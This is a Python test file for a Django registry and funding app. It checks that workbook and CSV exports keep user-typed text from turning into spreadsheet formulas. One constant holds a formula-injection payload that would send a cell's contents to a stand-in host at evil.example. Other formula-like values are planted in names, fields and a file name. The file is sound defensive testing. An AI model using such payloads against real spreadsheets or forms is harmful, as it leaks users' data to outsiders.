"""No export turns typed text into a formula: registry, decree, budget sheet, error workbook, --out, template."""

import csv
import io

import openpyxl
import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.core.management import call_command
from django.urls import reverse

from conftest import VILLAGE_A
from lindung.lib.safe_cells import FORMULA_STARTS

EVIL = '=HYPERLINK("http://evil.example/?d="&A1,"Klik")'


def _cells(content: bytes) -> list:
    book = openpyxl.load_workbook(io.BytesIO(content))
    return [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]


def _assert_inert(cells, *, expect: str = "HYPERLINK") -> None:
    texts = [c for c in cells if isinstance(c.value, str)]
    assert any(expect in c.value for c in texts), "the typed text must still be in the file"
    assert not [c for c in cells if c.data_type == "f"], "no cell may be a formula"
    # Text that looks like a formula carries an apostrophe, or Excel's quote-prefix mark.
    assert not [c.value for c in texts if c.value.startswith(FORMULA_STARTS) and not c.quotePrefix]


@pytest.fixture
def evil_person(cast, make_person):
    from lindung.people.services import verify_person

    person = make_person(street=EVIL, birth_place="+62 Tenggarong", occupation="lainnya", occupation_other="@SUM(1)")
    return verify_person(person, by=cast.admin)


def test_the_registry_export_neutralises_street_birth_place_and_occupation(client, cast, evil_person):
    client.force_login(cast.admin)
    cells = _cells(client.get(reverse("people:person-export")).content)
    _assert_inert(cells)
    assert any(c.value == "'+62 Tenggarong" for c in cells)


@pytest.fixture
def evil_funder(cast, year2021, evil_person):
    from lindung.funding.services import allocate_year, create_funder

    funder = create_funder(year2021, {"kind": "donor", "name": EVIL[:150], "budget": 504_000}, by=cast.admin)
    allocate_year(year2021, by=cast.admin)
    return funder


def test_a_funder_named_like_a_formula_stays_text_in_the_decree_list(client, cast, evil_funder):
    client.force_login(cast.admin)
    _assert_inert(_cells(client.get(reverse("funding:decree-xlsx", args=[evil_funder.pk])).content))


def test_a_funder_named_like_a_formula_stays_text_in_the_budget_sheet(client, cast, evil_funder, year2021):
    client.force_login(cast.admin)
    response = client.get(reverse("funding:budget-sheet", args=[year2021.year]), {"format": "xlsx"})
    _assert_inert(_cells(response.content))


HEADER = "NIK,Nama,Jenis Kelamin,Tempat Lahir,Tanggal Lahir,Pekerjaan\n"
ROWS = f'6402064905800201,"{EVIL.replace(chr(34), chr(34) * 2)}",P,-Tenggarong,09-05-1980,petani\n'


def test_refused_names_stay_text_in_the_error_workbook(client, cast, settings, tmp_path):
    from lindung.imports import services, workbooks

    settings.MEDIA_ROOT = tmp_path
    upload = SimpleUploadedFile("=jahat.csv", (HEADER + ROWS).encode())
    batch = services.create_batch(upload, by=cast.operator_a, village_code=VILLAGE_A)
    services.preview_import(batch, by=cast.operator_a)
    _assert_inert(_cells(workbooks.error_workbook(batch)))


def test_refused_names_stay_text_in_the_import_out_file(cast, tmp_path):
    source = tmp_path / "desa.csv"
    source.write_text(HEADER + ROWS, encoding="utf-8")
    out = tmp_path / "hasil.csv"
    call_command(
        "import",
        str(source),
        "--dry-run",
        "--out",
        str(out),
        "--user",
        "admin",
        "--village",
        VILLAGE_A,
        stdout=io.StringIO(),
        stderr=io.StringIO(),
    )
    lines = list(csv.reader(out.open(encoding="utf-8")))
    cells = [cell for line in lines[1:] for cell in line]
    assert any("HYPERLINK" in c for c in cells)
    assert not [c for c in cells if c.startswith(FORMULA_STARTS)]


def test_the_template_has_no_formula_cells(client, cast):
    client.force_login(cast.operator_a)
    cells = _cells(client.get(reverse("imports:template")).content)
    assert not [c for c in cells if c.data_type == "f"]
    assert not [c for c in cells if isinstance(c.value, str) and c.value.startswith(FORMULA_STARTS)]
